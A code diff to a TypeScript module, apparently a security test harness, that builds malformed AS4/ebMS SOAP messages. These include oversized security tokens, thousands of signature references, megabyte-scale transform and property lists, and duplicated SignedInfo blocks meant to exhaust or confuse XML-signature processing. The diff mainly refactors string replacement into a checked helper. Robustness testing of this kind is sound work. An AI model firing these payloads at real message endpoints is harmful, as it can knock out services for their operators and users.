@@ -1,5 +1,6 @@
 import { type Attack, attack, type Blow } from './attack.ts';
-import { type Installation, OUR_SENDER, OURS } from './installation.ts';
+import { type Installation, OURS } from './installation.ts';
+import { found, replaced } from './replaced.ts';
 import { as4Body, INVOICE, message, send } from './senders.ts';
 
 const END = '</env:Envelope>';
@@ -26,20 +27,26 @@ async function altered(target: Installation, alter: (soap: string) => string): P
 const soapAttack = (name: string, alter: (soap: string) => string): Attack =>
   attack(`soap-${name}`, (target) => altered(target, alter));
 
-const inHeader = (xml: string) => (soap: string) => soap.replace('</env:Header>', `${xml}</env:Header>`);
+const inHeader = (xml: string) => (soap: string) => replaced(soap, '</env:Header>', `${xml}</env:Header>`);
 const inSecurity = (xml: string) => (soap: string) =>
-  soap.replace('</wsse:Security>', `${xml}</wsse:Security>`);
+  replaced(soap, '</wsse:Security>', `${xml}</wsse:Security>`);
 const inSignedInfo = (xml: string) => (soap: string) =>
-  soap.replace('</ds:SignedInfo>', `${xml}</ds:SignedInfo>`);
+  replaced(soap, '</ds:SignedInfo>', `${xml}</ds:SignedInfo>`);
 const inMessaging = (xml: string) => (soap: string) =>
-  soap.replace('</eb:Messaging>', `${xml}</eb:Messaging>`);
+  replaced(soap, '</eb:Messaging>', `${xml}</eb:Messaging>`);
+/** In that of who signed and in that of who is to decrypt. */
+const inTokens = (text: string) => (soap: string) => {
+  const pieces = soap.split(/(?<=<wsse:BinarySecurityToken[^>]*>)/);
+  if (pieces.length !== 3) throw new Error('There are no two tokens to attack with');
+  return pieces.join(text);
+};
 
 const C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
 const CANONICALIZATION = `<ds:CanonicalizationMethod Algorithm="${C14N}">`;
 const prefixList = (names: string): string =>
   `<ec:InclusiveNamespaces xmlns:ec="${C14N}" PrefixList="${names}"></ec:InclusiveNamespaces>`;
 const inList = (names: string) => (soap: string) =>
-  soap.replace(CANONICALIZATION, `${CANONICALIZATION}${prefixList(names)}`);
+  replaced(soap, CANONICALIZATION, `${CANONICALIZATION}${prefixList(names)}`);
 const reference = (i: number): string =>
   `<ds:Reference URI="#as4-messaging"><ds:Transforms><ds:Transform Algorithm="${C14N}"></ds:Transform></ds:Transforms>` +
   `<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"></ds:DigestMethod><ds:DigestValue>${i}</ds:DigestValue></ds:Reference>`;
@@ -72,48 +79,44 @@ export const SOAP_ATTACKS: Attack[] = [
     inSignedInfo(filling('<ds:x></ds:x>', 200_000))(inList(numbered(200_000, (i) => `p${i} `))(soap)),
   ),
   soapAttack('prefix-list-declared', (soap) =>
-    inSignedInfo(filling('<ds:x></ds:x>', 200_000))(inList(numbered(240, (i) => `p${i} `))(soap)).replace(
+    replaced(
+      inSignedInfo(filling('<ds:x></ds:x>', 200_000))(inList(numbered(240, (i) => `p${i} `))(soap)),
       '<env:Header>',
       `<env:Header${numbered(240, (i) => ` xmlns:p${i}="urn:${i}"`)}>`,
     ),
   ),
   soapAttack('references', inSignedInfo(numbered(3_900, reference))),
   soapAttack('transforms', (soap) =>
-    soap.replace(
+    replaced(
+      soap,
       '</ds:Transforms>',
       `${filling(`<ds:Transform Algorithm="${C14N}"/>`, MIB)}</ds:Transforms>`,
     ),
   ),
   soapAttack('two-signed-infos', (soap) => {
-    const found = /<ds:SignedInfo.*?<\/ds:SignedInfo>/s.exec(soap)?.[0] ?? '';
-    return soap.replace(found, found + found);
+    const signed = found(soap, /<ds:SignedInfo.*?<\/ds:SignedInfo>/s);
+    return replaced(soap, signed, signed + signed);
   }),
   soapAttack('signed-info-text', inSignedInfo(`<ds:x>${filling('&#13;', MOST)}</ds:x>`)),
   soapAttack('tokens', (soap) => {
-    const token = /<wsse:BinarySecurityToken.*?<\/wsse:BinarySecurityToken>/s.exec(soap)?.[0] ?? '';
-    return inSecurity(numbered(1_000, (i) => token.replace(/wsu:Id="[^"]*"/, `wsu:Id="t${i}"`)))(soap);
+    const token = found(soap, /<wsse:BinarySecurityToken.*?<\/wsse:BinarySecurityToken>/s);
+    return inSecurity(numbered(1_000, (i) => replaced(token, /wsu:Id="[^"]*"/, `wsu:Id="t${i}"`)))(soap);
   }),
-  soapAttack('token-huge', (soap) =>
-    soap.replace(/(<wsse:BinarySecurityToken[^>]*>)/g, (start) => `${start}${filling('A \n', 1.5 * MIB)}`),
-  ),
-  soapAttack('token-dashes', (soap) =>
-    soap.replace(
-      /(<wsse:BinarySecurityToken[^>]*>)/g,
-      (start) => `${start}${filling('-----BEGIN CERTIFICATE-----', 1.5 * MIB)}`,
-    ),
-  ),
+  soapAttack('token-huge', inTokens(filling('A \n', 1.5 * MIB))),
+  soapAttack('token-dashes', inTokens(filling('-----BEGIN CERTIFICATE-----', 1.5 * MIB))),
   soapAttack('signature-value', (soap) =>
-    soap.replace('<ds:SignatureValue>', `<ds:SignatureValue>${filling(' A', MOST)}`),
+    replaced(soap, '<ds:SignatureValue>', `<ds:SignatureValue>${filling(' A', MOST)}`),
   ),
   soapAttack('properties', inMessaging(filling('<eb:Property name="a">b</eb:Property>', MIB / 2))),
   soapAttack('user-messages', inMessaging(filling('<eb:UserMessage/>', MIB / 4))),
   soapAttack('property-many', (soap) =>
-    soap.replace(
+    replaced(
+      soap,
       '<eb:MessageProperties>',
       `<eb:MessageProperties>${filling(`<eb:Property name="x">${OURS}</eb:Property>`, MIB / 2)}`,
     ),
   ),
   soapAttack('year-9999', (soap) =>
-    soap.replace(/<eb:Timestamp>[^<]*/, '<eb:Timestamp>9999-12-31T23:59:59Z').replace(OUR_SENDER, OUR_SENDER),
+    replaced(soap, /<eb:Timestamp>[^<]*/, '<eb:Timestamp>9999-12-31T23:59:59Z'),
   ),
 ];
